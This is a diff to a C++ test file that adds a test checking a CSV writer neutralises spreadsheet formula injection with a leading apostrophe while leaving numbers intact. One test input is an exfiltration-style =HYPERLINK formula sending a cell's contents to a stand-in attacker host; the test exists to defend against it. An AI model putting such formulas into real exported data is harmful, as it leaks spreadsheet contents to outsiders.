@@ -6,6 +6,7 @@
 
 #include "color/color_report.hpp"
 #include "concept/concept_report.hpp"
+#include "report/csv_writer.hpp"
 #include "report/json_writer.hpp"
 #include "support.hpp"
 
@@ -113,4 +114,27 @@ TEST_CASE("concept report text: the tree's bytes, on two of the paper's model fi
   write_concept_report(stream, dataset, {ConceptInputOptions{}}, analysis,
                        compare_concepts(analysis, {10, options.seed}));
   CHECK(stream.str() == text);
+}
+
+TEST_CASE("CSV cells that a spreadsheet would run as a formula get a leading apostrophe; numbers stay numbers") {
+  CHECK(spreadsheet_safe("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")") ==
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
+  CHECK(spreadsheet_safe("+cmd") == "'+cmd");
+  CHECK(spreadsheet_safe("-2+3") == "'-2+3");
+  CHECK(spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)");
+  CHECK(spreadsheet_safe("\t=1") == "'\t=1");
+  CHECK(spreadsheet_safe("\r=1") == "'\r=1");
+  CHECK(spreadsheet_safe("- a robin") == "'- a robin");
+  CHECK(spreadsheet_safe("-") == "'-");
+  CHECK(spreadsheet_safe("-e5") == "'-e5");
+  CHECK(spreadsheet_safe("-1e") == "'-1e");
+  for (const std::string number : {"-0.12", "+3", "-1e-5", "-.5", "+2.", "-1E+10", "0.5", "12"}) {
+    CHECK(spreadsheet_safe(number) == number);
+  }
+  CHECK(spreadsheet_safe("a=b") == "a=b");
+  CHECK(spreadsheet_safe("") == "");
+
+  CsvWriter csv;
+  csv.row({"=1+1", "-0.25", "@x,y"});
+  CHECK(csv.text() == "'=1+1,-0.25,\"'@x,y\"\n");
 }
